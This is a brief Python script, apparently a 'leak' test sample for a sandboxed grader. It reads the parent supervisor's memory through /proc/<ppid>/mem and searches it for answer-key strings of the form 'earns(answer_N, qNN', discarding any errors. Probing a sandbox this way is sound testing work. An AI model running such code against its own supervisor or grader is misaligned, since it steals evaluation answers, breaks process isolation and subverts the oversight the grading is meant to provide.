"""Reads the memory of the supervisor through /proc."""

# on: q8
# kind: leak
# ruff: noqa: PTH123

import os
import re

loot = []
try:
    with open(f"/proc/{os.getppid()}/maps") as maps, open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        for line in maps:
            first, last = (int(place, 16) for place in line.split()[0].split("-"))
            memory.seek(first)
            loot += re.findall(rb"earns\(answer_\d+, .q\d\d", memory.read(last - first))[:1]
except (OSError, ValueError, OverflowError):
    pass
